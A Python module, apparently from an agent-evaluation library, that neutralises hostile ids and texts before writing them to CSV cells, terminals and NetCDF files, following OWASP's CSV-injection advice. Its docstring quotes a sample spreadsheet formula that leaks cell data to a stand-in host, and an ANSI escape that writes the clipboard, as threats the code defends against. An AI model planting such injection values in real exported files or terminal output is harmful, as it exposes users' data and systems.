"""Hostile ids and texts made safe for the place they are written to (issue 18.11).

Data is never code, and ids and texts come from the data: an agent may be called
``=HYPERLINK("http://x/?"&A1)``, a task ``\\x1b]52;c;...`` (an ANSI escape that writes the
clipboard), an answer may hold a NUL byte or a lone surrogate. Each writer passes what the data
says through the one function for its medium, at the call site:

* :func:`csv_cell` / :func:`csv_frame`: a spreadsheet cell never starts a formula. As OWASP
  recommends (CSV Injection), a text cell starting with ``=``, ``+``, ``-``, ``@``, tab or
  carriage return (or their full-width forms, which some spreadsheets read alike) gets a
  leading ``'``, which spreadsheets show as text and do not evaluate; control characters and
  lone surrogates are escaped as below, a carriage return too (``\r\n`` becomes ``\n``):
  pandas does not quote a cell holding a lone CR, and readers start a new row, and so a new
  first cell, there.
* :func:`terminal`: for the CLI's tables and messages: control characters (C0 but tab and
  newline, DEL, C1), bidirectional overrides and isolates, line/paragraph separators and lone
  surrogates become visible ``\\uXXXX`` escapes, so no escape sequence reaches the terminal and
  the text a user reads is the text there is. The escapes are JSON's, so a JSON text stays
  valid JSON with the same meaning.
* :func:`netcdf_text`: NUL (h5py refuses it in a string) and lone surrogates (not UTF-8) as
  ``\\uXXXX``, everything else unchanged.

Figures: ``agenteval.plots.paper_style`` turns matplotlib's mathtext off (``text.parse_math``),
so ``$5 or $10`` is drawn as written; only the library's own labels turn it back on, one text at a
time (``agenteval.plots.MATH``), and data labels pass through :func:`terminal`
(``agenteval.plots.data_label``). HTML is escaped by its writers.
"""

from __future__ import annotations

import re
from typing import Any

__all__ = ["FORMULA_PREFIXES", "csv_cell", "csv_frame", "netcdf_safe", "netcdf_text",
           "terminal"]

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
"""First characters that make a spreadsheet read a cell as a formula (OWASP's list, with the
full-width forms)."""

_UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029"
                     "\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
"""Characters no terminal should receive raw: C0 controls but tab and newline, DEL, C1
controls, bidirectional marks, embeddings, overrides and isolates, line and paragraph
separators, and lone surrogates (which cannot be encoded at all)."""


_NETCDF_UNSAFE = re.compile("[\x00\ud800-\udfff]")


def _escape(match: re.Match[str]) -> str:
    return f"\\u{ord(match.group()):04x}"


def terminal(text: Any) -> str:
    """``text`` (any object: its ``str``) safe to print to a terminal (module docstring).

    >>> terminal("agent\\x1b[31mred\\u202e")
    'agent\\\\u001b[31mred\\\\u202e'
    >>> terminal("two\\nlines\\tand a tab")
    'two\\nlines\\tand a tab'
    """
    text = text if isinstance(text, str) else str(text)
    return _UNSAFE.sub(_escape, text) if _UNSAFE.search(text) else text


def csv_cell(value: Any) -> Any:
    """One CSV cell: a text that would start a formula gets a leading ``'``; control characters
    and lone surrogates escaped. Anything but a string is returned unchanged.

    >>> [csv_cell(v) for v in ("=1+2", "-x", "@SUM(A1)", "\\tx", "plain", -3, None)]
    ["'=1+2", "'-x", "'@SUM(A1)", "'\\tx", 'plain', -3, None]
    """
    if not isinstance(value, str) or not value:
        return value
    if _UNSAFE.search(value):  # a lone CR too: pandas leaves it unquoted, and readers end the
        value = _UNSAFE.sub(_escape, value.replace("\r\n", "\n"))  # row there (a new cell)
    return "'" + value if value.startswith(FORMULA_PREFIXES) else value


def csv_frame(frame: Any) -> Any:
    """A pandas DataFrame with :func:`csv_cell` applied to every text cell, its index and its
    column names; the frame itself is left alone (a copy is returned when anything changes)."""
    import pandas as pd

    def texty(dtype: Any) -> bool:
        return dtype == object or pd.api.types.is_string_dtype(dtype)

    out = frame
    for name in frame.columns:
        column = frame[name]
        if isinstance(column.dtype, pd.CategoricalDtype) and texty(column.cat.categories.dtype):
            column = column.astype(object)  # ids are categories: checked as the texts they are
        if texty(column.dtype):
            cleaned = column.map(csv_cell, na_action="ignore")
            if not cleaned.equals(column):
                if out is frame:
                    out = frame.copy()
                out[name] = cleaned
    index = frame.index.map(csv_cell) if texty(frame.index.dtype) else frame.index
    columns = frame.columns.map(csv_cell) if texty(frame.columns.dtype) else frame.columns
    if not index.equals(frame.index) or not columns.equals(frame.columns):
        if out is frame:
            out = frame.copy()
        out.index, out.columns = index, columns
    return out


def netcdf_text(text: str) -> str:
    """A string h5py / NetCDF can store: NUL and lone surrogates as ``\\uXXXX`` escapes.

    >>> netcdf_text("agent\\x00b")
    'agent\\\\u0000b'
    """
    return _NETCDF_UNSAFE.sub(_escape, text) if _NETCDF_UNSAFE.search(text) else text


def netcdf_safe(data: Any) -> Any:
    """ArviZ InferenceData (or an xarray DataTree / Dataset) with :func:`netcdf_text` applied
    to every string coordinate, string variable and string attribute; ``data`` is left alone
    (new containers share the numeric arrays)."""
    if hasattr(data, "map_over_datasets"):  # xarray DataTree (arviz >= 1)
        return data.map_over_datasets(_netcdf_dataset)
    if hasattr(data, "groups") and callable(data.groups):  # arviz InferenceData
        groups = {name: _netcdf_dataset(getattr(data, name)) for name in data.groups()}
        return type(data)(**groups)
    return _netcdf_dataset(data)


def _netcdf_dataset(ds: Any) -> Any:
    import numpy as np

    def fix(values: Any) -> Any:
        array = np.asarray(values)
        if array.dtype.kind not in "OU":
            return None
        flat = [netcdf_text(v) if isinstance(v, str) else v for v in array.ravel().tolist()]
        if flat == array.ravel().tolist():
            return None
        out = np.empty(array.shape, dtype=object)
        out.ravel()[:] = flat
        return out

    changes = {}
    for name in list(ds.coords) + list(ds.data_vars):
        fixed = fix(ds[name].values)
        if fixed is not None:
            changes[name] = (ds[name].dims, fixed, ds[name].attrs)
    attrs = {k: netcdf_text(v) if isinstance(v, str) else v for k, v in ds.attrs.items()}
    if not changes and attrs == ds.attrs:
        return ds
    coords = {k: v for k, v in changes.items() if k in ds.coords}
    out = ds.assign_coords(coords) if coords else ds.copy()
    for name, value in changes.items():
        if name not in ds.coords:
            out[name] = value
    out.attrs = attrs
    return out
